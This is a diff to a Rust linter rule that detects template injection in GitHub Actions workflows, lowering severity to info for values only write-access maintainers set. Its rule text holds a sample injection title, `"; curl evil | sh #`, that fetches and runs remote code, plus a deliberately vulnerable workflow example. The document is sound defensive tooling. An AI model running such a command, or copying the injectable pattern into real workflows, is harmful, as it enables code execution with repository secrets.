@@ -10,7 +10,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release) as a warning with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage or write access set, or the caller's own string input passed on, a warning with medium confidence; when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow: a warning with medium confidence. A `workflow_dispatch` input is a warning with medium confidence (starting the workflow takes write access). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release, and they can already run any code in the workflows) as info with medium confidence, shown when the rule is named. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage access set, or the caller's own string input passed on, a warning with medium confidence (write access: info); when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow: a warning with medium confidence. A `workflow_dispatch` input is info with medium confidence, shown when the rule is named (starting the workflow takes write access, which can already run any code). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -57,6 +57,14 @@ fn maintainer_access(rest: &[&str]) -> Option<&'static str> {
         return Some("write");
     }
     maintainer_set(rest).then_some("triage")
+}
+
+/// The severity of a value only maintainers set: people with write access can already run any code
+/// in the repository's workflows, so what they set is hygiene (info, shown when the rule is named:
+/// judged not worth a default finding in the sixteenth sample); triage access is less than that, so
+/// a label name reaching a script is a warning.
+fn maintainer_severity(access: &str) -> Severity {
+    if access == "write" { Severity::Info } else { Severity::Warning }
 }
 
 /// The access of whoever sets a context path only maintainers set (see [`maintainer_access`]).
@@ -284,7 +292,11 @@ fn passed(caller: &str, input: &str, path: &[String], own: &StringInputs) -> Opt
     } else {
         let confidence = injection_risk(path)?;
         match set_by_maintainers(path) {
-            Some(access) => (Severity::Warning, confidence, format!("is set by people with {access} access")),
+            Some(access) => (
+                maintainer_severity(access),
+                confidence,
+                format!("is set by people with {access} access"),
+            ),
             None => (meta().severity, confidence, "can be set by an outsider".to_owned()),
         }
     };
@@ -345,9 +357,10 @@ fn input_verdict(path: &[String], inputs: &StringInputs, callers: &Option<Vec<Pa
             ));
         }
     }
+    // Only people with write access run a workflow by hand: hygiene (see `maintainer_severity`).
     dispatch.then(|| {
         (
-            Severity::Warning,
+            Severity::Info,
             Confidence::Medium,
             format!("`{written}` is free text from whoever runs the workflow and is expanded straight into `{what}:`"),
         )
@@ -447,7 +460,7 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                             // Label names (triage access) and release fields (write access) are
                             // not set by outsiders: a warning.
                             Some(access) => (
-                                Severity::Warning,
+                                maintainer_severity(access),
                                 confidence,
                                 format!(
                                     "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
